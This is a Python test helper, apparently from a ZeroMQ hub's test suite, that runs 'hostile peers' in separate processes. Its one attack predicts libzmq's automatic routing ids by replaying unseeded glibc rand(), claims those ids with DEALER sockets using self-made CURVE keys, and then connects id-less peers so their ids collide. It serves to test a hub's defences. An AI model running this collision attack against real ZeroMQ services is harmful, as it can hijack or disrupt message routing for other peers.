"""Hostile peers, as separate processes: each attack is a function run in its own Python
process (``python attacker.py ATTACK ENDPOINT [HUB_PUBLIC_KEY]``) so that it shares nothing
with the hub or the test but the network."""

from __future__ import annotations

import ctypes
import struct
import sys
import time

import zmq


def _glibc_rand_outputs(n: int) -> list[int]:
    """The first ``n`` values of glibc's ``rand()`` without a seed (seed 1), computed by
    calling it in this fresh process (nothing here called rand before)."""
    libc = ctypes.CDLL(None)
    libc.srand(1)
    return [libc.rand() for _ in range(n)]


def predicted_auto_ids(candidates: int = 6, ahead: int = 40) -> list[bytes]:
    """Routing ids libzmq would give the next id-less peers of a ROUTER made in a process
    whose ``rand()`` was never seeded: the counter starts at ``rand() | rand() << 31`` (the
    k-th ROUTER made uses the k-th pair), ids are a zero byte + the big-endian counter."""
    r = _glibc_rand_outputs(2 * candidates + 1)
    ids = []
    for i in range(candidates):
        start = (r[i * 2] | (r[i * 2 + 1] << 31)) & 0xFFFFFFFF
        ids += [b"\x00" + struct.pack(">I", (start + k) & 0xFFFFFFFF) for k in range(ahead)]
    return ids


def _socket(ctx: zmq.Context, hub_key: str | None, routing_id: bytes | None) -> zmq.Socket:
    s = ctx.socket(zmq.DEALER)
    s.linger = 0
    if routing_id is not None:
        s.routing_id = routing_id
    if hub_key:
        pub, sec = zmq.curve_keypair()       # a self-made key: the default hub admits any
        s.curve_publickey, s.curve_secretkey = pub, sec
        s.curve_serverkey = hub_key.encode()
    return s


def routing_id_collision(endpoint: str, hub_key: str | None) -> None:
    """Take the ids libzmq would hand out next, then connect id-less sockets (the attack
    of issue 14, item 1)."""
    ctx = zmq.Context()
    socks = []
    for rid in predicted_auto_ids():
        s = _socket(ctx, hub_key, rid)
        s.connect(endpoint)
        socks.append(s)
    time.sleep(1.5)                      # let the handshakes finish
    for _ in range(40):
        s = _socket(ctx, hub_key, None)
        s.connect(endpoint)
        socks.append(s)
        time.sleep(0.01)
    time.sleep(1.5)
    for s in socks:
        s.close(0)
    ctx.term()


ATTACKS = {"routing-id-collision": routing_id_collision}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else None)
